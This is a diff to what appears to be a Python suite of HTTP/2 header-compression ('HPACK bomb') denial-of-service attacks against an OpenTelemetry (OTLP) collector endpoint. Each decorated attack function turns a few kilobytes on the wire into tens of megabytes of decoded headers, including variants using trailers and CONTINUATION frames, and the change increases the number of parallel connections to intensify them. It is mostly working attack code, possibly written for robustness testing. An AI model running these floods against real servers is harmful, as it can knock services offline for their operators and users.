@@ -9,7 +9,7 @@ TRACES = h2.EXPORT["traces"]
 BIG_FIELD = h2.field("x-big", "b" * 3900, 0x40)  # fills the table; from then on one byte, 0xbe, names it
 
 
-def bombs(target, fields, first=None, count=1, port="otlp", end=True, flags=h2.END_HEADERS):
+def bombs(target, fields, first=None, count=4, port="otlp", end=True, flags=h2.END_HEADERS):
     """Connections whose every request is the same block; `first` is the block of the first request."""
     def feed():
         yield h2.opening() + h2.headers(1, first or fields)
@@ -21,13 +21,13 @@ def bombs(target, fields, first=None, count=1, port="otlp", end=True, flags=h2.E
 
 @attack()
 def one_table_entry_is_named_twelve_thousand_times(target):
-    """12 kB on the wire are 47 MB of fields, frame after frame."""
+    """12 kB on the wire are 47 MB of fields, frame after frame, by four connections."""
     return bombs(target, h2.block(TRACES) + h2.NEWEST * 12_000, h2.block(TRACES) + BIG_FIELD)
 
 
 @attack()
-def the_same_by_ten_connections(target):
-    return bombs(target, h2.block(TRACES) + h2.NEWEST * 12_000, h2.block(TRACES) + BIG_FIELD, count=10)
+def the_same_by_twenty_connections(target):
+    return bombs(target, h2.block(TRACES) + h2.NEWEST * 12_000, h2.block(TRACES) + BIG_FIELD, count=20)
 
 
 @attack()
@@ -46,7 +46,7 @@ def the_same_in_trailers(target):
         parts = [(h2.HEADERS, h2.END_HEADERS, h2.block(TRACES)), (h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, trailers)]
         for stream in itertools.count(3, 100):
             yield h2.numbered(parts, stream, 50)
-    return push(target, lambda: (target.connect(), feed()), reconnect=True, reads=65536)
+    return push(target, *[lambda: (target.connect(), feed())] * 4, reconnect=True, reads=65536)
 
 
 @attack()
@@ -66,7 +66,7 @@ def the_same_over_many_continuations(target):
             yield (h2.headers(stream, fields, end_headers=False)
                    + h2.frame(h2.CONTINUATION, 0, stream, h2.NEWEST * 16_000) * 7
                    + h2.frame(h2.CONTINUATION, h2.END_HEADERS, stream, h2.NEWEST * 16_000))
-    return push(target, lambda: (target.connect(), feed()), reconnect=True, reads=65536)
+    return push(target, *[lambda: (target.connect(), feed())] * 4, reconnect=True, reads=65536)
 
 
 @attack()
